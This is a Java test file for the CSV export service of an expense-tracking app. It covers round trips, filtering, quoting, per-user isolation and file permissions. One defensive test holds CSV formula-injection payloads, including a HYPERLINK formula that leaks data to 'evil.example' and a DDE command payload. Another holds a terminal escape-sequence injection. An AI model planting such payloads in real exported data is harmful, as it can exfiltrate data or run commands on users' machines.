package io.spendsense.service;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStreamReader;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Objects;
import java.util.Set;

import io.spendsense.domain.ExpenseFilter;
import io.spendsense.domain.Period;
import io.spendsense.testing.BothDatabases;
import io.spendsense.testing.TestDatabase;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@BothDatabases
class ExportServiceTest {
    @TempDir
    Path dir;
    TestDatabase database;
    Services services;
    SignedInUser alice;

    @BeforeEach
    void open(TestDatabase database) throws IOException {
        this.database = database;
        services = Services.openForTests(database.location(), new MutableClock(Instant.parse("2026-03-20T10:00:00Z")));
        alice = TestUsers.signedUp(services, "alice");
        try (var in = new InputStreamReader(Objects.requireNonNull(
                getClass().getResourceAsStream("/io/spendsense/dev-expenses.csv")), StandardCharsets.UTF_8)) {
            services.importer().importCsv(alice, "dev-expenses.csv", in, ImportOptions.DEFAULT);
        }
    }

    @AfterEach
    void close() {
        services.close();
    }

    String export(SignedInUser who, ExpenseFilter filter) throws IOException {
        var out = new StringWriter();
        services.exporter().export(who, filter, out);
        return out.toString();
    }

    @Test
    void exportThenImportIntoANewUserRoundTripsTheDevDataExactly() throws IOException {
        String first = export(alice, ExpenseFilter.ALL);
        var bob = TestUsers.signedUp(services, "bob");
        var report = services.importer().importCsv(bob, "export.csv", new StringReader(first), ImportOptions.DEFAULT);
        assertThat(report.imported()).isEqualTo(1416);
        assertThat(export(bob, ExpenseFilter.ALL)).isEqualTo(first);
    }

    @Test
    void exportOfTheDevDataIsTheDevFileItself() throws IOException {
        String original;
        try (var in = getClass().getResourceAsStream("/io/spendsense/dev-expenses.csv")) {
            original = new String(Objects.requireNonNull(in).readAllBytes(), StandardCharsets.UTF_8);
        }
        // The dev file is sorted by date and written in the canonical format, so the export reproduces it.
        assertThat(export(alice, ExpenseFilter.ALL)).isEqualTo(original);
    }

    @Test
    void exportIsFilteredByPeriodAndCategoryAndWritesTwoDecimals() throws IOException {
        long housing = services.categories().findByName(alice, "Housing").orElseThrow().id();
        String csv = export(alice, ExpenseFilter.of(new Period(LocalDate.of(2024, 1, 1), LocalDate.of(2024, 3, 31)))
                .withCategories(Set.of(housing)));
        assertThat(csv).isEqualTo("""
                date,description,category,payee,amount
                2024-01-01,Monthly rent,Housing,Oakwood Apartments,1475.00
                2024-02-01,Monthly rent,Housing,Oakwood Apartments,1475.00
                2024-03-01,Monthly rent,Housing,Oakwood Apartments,1475.00
                """);
    }

    @Test
    void fieldsWithCommasQuotesAndNewlinesAreQuoted() throws IOException {
        var bob = TestUsers.signedUp(services, "bob");
        services.importer().importCsv(bob, "q.csv", new StringReader(
                "date,description,category,payee,amount\n2024-05-01,\"Dinner, \"\"the\"\" "
                + "best\nreally\",Dining,Nopa,80.00\n"),
                ImportOptions.DEFAULT);
        assertThat(export(bob, ExpenseFilter.ALL))
                .endsWith("2024-05-01,\"Dinner, \"\"the\"\" best\nreally\",Dining,Nopa,80.00\n");
    }

    @Test
    void exportContainsOnlyTheSignedInUsersExpenses() throws IOException {
        var bob = TestUsers.signedUp(services, "bob");
        assertThat(export(bob, ExpenseFilter.ALL)).isEqualTo("date,description,category,payee,amount\n");
    }

    @Test
    void cellsASpreadsheetWouldEvaluateAreWrittenAsText() throws IOException {
        var bob = TestUsers.signedUp(services, "bob");
        long dining = services.categories().findByName(bob, "Dining").orElseThrow().id();
        String[] hostile = {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(A1:A9)"};
        for (String text : hostile) {
            services.expenses().create(bob, new io.spendsense.domain.ExpenseDraft(LocalDate.of(2026, 3, 1),
                    new java.math.BigDecimal("1.00"), dining, text, text, null));
        }
        var records = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(export(bob, ExpenseFilter.ALL))).getRecords();
        assertThat(records).hasSize(hostile.length);
        for (var r : records) {
            assertThat(r.get("description")).startsWith("'");
            assertThat(r.get("payee")).startsWith("'");
            assertThat(r.get("amount")).isEqualTo("1.00");
        }
        assertThat(ExportService.neutralize("Coffee")).isEqualTo("Coffee");
        assertThat(ExportService.neutralize("'quoted")).isEqualTo("'quoted");
        // (the editor and import strip leading whitespace, but a cell starting with a tab or CR is quoted too)
        assertThat(ExportService.neutralize("\tTab first")).isEqualTo("'\tTab first");
        assertThat(ExportService.neutralize("\rReturn")).isEqualTo("'\rReturn");
        for (String text : hostile) {
            assertThat(ExportService.unneutralize(ExportService.neutralize(text))).isEqualTo(text);
        }
        // the round trip is lossless: importing the export gives back the text without the quotes
        String exported = export(bob, ExpenseFilter.ALL);
        var carol = TestUsers.signedUp(services, "carol");
        services.importer().importCsv(carol, "export.csv", new StringReader(exported), ImportOptions.DEFAULT);
        var back = services.expenses().page(carol, ExpenseFilter.ALL, new io.spendsense.domain.ExpenseSort(
                io.spendsense.domain.ExpenseSort.Field.DATE, true), 0, 20).items();
        assertThat(back).extracting(io.spendsense.domain.Expense::payee).containsExactlyInAnyOrder(hostile);
        assertThat(export(carol, ExpenseFilter.ALL)).isEqualTo(exported);
    }

    @Test
    void anImportWithAnEscapeSequenceIsRefusedNamingTheLineAndField() throws IOException {
        var bob = TestUsers.signedUp(services, "bob");
        String csv = "date,description,category,payee,amount\n2024-05-01,Dinner,Dining,Nopa,80.00\n"
                + "2024-05-02,Lunch,Dining,\"Cafe\u001b]0;pwned\u0007\",12.00\n";
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> services.importer().importCsv(bob, "bad.csv",
                        new StringReader(csv), ImportOptions.DEFAULT))
                .isInstanceOfSatisfying(ImportException.class, e -> assertThat(e.errors().toString())
                        .contains("3").contains("payee contains a control character (U+001B) at position 5"));
        assertThat(export(bob, ExpenseFilter.ALL)).isEqualTo("date,description,category,payee,amount\n");
    }

    @Test
    void anExportFileIsOwnerOnlyAndReplacesTheOldOneWhole() throws IOException {
        Path file = dir.resolve("out.csv");
        java.nio.file.Files.writeString(file, "old");
        java.nio.file.Files.setPosixFilePermissions(file,
                java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
        long count = services.exporter().exportTo(alice, ExpenseFilter.ALL, file);
        assertThat(count).isEqualTo(1416);
        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(
                java.nio.file.Files.getPosixFilePermissions(file)))
                .isEqualTo("rw-------");
        assertThat(java.nio.file.Files.readString(file)).isEqualTo(export(alice, ExpenseFilter.ALL));
        Path fresh = dir.resolve("fresh.csv");
        services.exporter().exportTo(alice, ExpenseFilter.ALL, fresh);
        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(
                java.nio.file.Files.getPosixFilePermissions(fresh)))
                .isEqualTo("rw-------");
        try (var files = java.nio.file.Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".part"));
        }
    }
}
